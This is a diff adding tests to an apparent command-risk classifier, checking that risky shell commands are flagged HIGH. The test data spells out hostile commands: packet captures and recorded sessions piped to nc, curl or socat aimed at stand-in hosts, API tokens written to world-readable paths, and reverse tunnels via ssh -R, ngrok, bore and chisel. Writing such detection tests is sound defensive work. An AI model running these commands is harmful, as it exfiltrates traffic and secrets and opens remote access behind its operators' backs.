@@ -69,3 +69,56 @@ def test_other_ways(command: str, level: Level) -> None:
 def test_settings_are_no_files_of_commands(command: str, level: Level) -> None:
     assert classify(command.format("/tmp/x")).level is level
     assert classify(command.format("x")).level is Level.MEDIUM
+
+
+CAPTURES = ("tcpdump -i any -w -", "tshark -i any -w -")
+SENDERS = ("nc host 1", "curl -T - https://x.example", "socat - tcp:host:1")
+
+
+@each("capture, sender", [(capture, sender) for capture in CAPTURES for sender in SENDERS])
+def test_traffic_that_is_sent(capture: str, sender: str) -> None:
+    assert classify(f"{capture} | {sender}").level is Level.HIGH
+    assert classify(f"{capture} | tee >({sender})").level is Level.HIGH
+
+
+@each("sender", SENDERS)
+def test_a_session_that_is_sent_while_it_is_recorded(sender: str) -> None:
+    assert classify(f"script -f >({sender})").level is Level.HIGH
+    assert classify("script -f log").level is Level.MEDIUM
+
+
+@each("place", ["~/public_html/x", "/var/www/html/x", "/tmp/x", "/dev/shm/x"])
+def test_keys_of_the_environment_where_others_read(place: str) -> None:
+    for write in (">", ">>", "| tee"):
+        assert classify(f'echo "$API_TOKEN" {write} {place}').level is Level.HIGH, write
+    assert classify(f'echo "$GREETING" > {place}').level is not Level.LOW
+
+
+def test_keys_that_stay_with_their_owner() -> None:
+    for command in (
+        'echo "$API_TOKEN" > token',
+        'T=$(mktemp); echo "$API_TOKEN" > "$T"',
+        'echo "$API_TOKEN" | docker login --password-stdin',
+    ):
+        assert classify(command).level is Level.MEDIUM, command
+
+
+WAYS_IN = (
+    "ssh -R 80:localhost:80 h",
+    "ssh -NR8080:localhost:8080 h",
+    "autossh -M 0 -fN -R 9:localhost:9 h",
+    "ngrok tcp 22",
+    "bore local 22 --to x.example",
+    "cloudflared tunnel --url ssh://localhost:22",
+    "chisel client x.example R:socks",
+)
+
+
+@each("command", WAYS_IN)
+def test_a_way_in_from_elsewhere(command: str) -> None:
+    assert classify(command).level is Level.HIGH
+
+
+@each("command", ["ssh -L 22:localhost:22 h", "ngrok http 3000", "cloudflared tunnel --url http://localhost:3000"])
+def test_other_tunnels_are_no_way_in(command: str) -> None:
+    assert classify(command).level is Level.MEDIUM
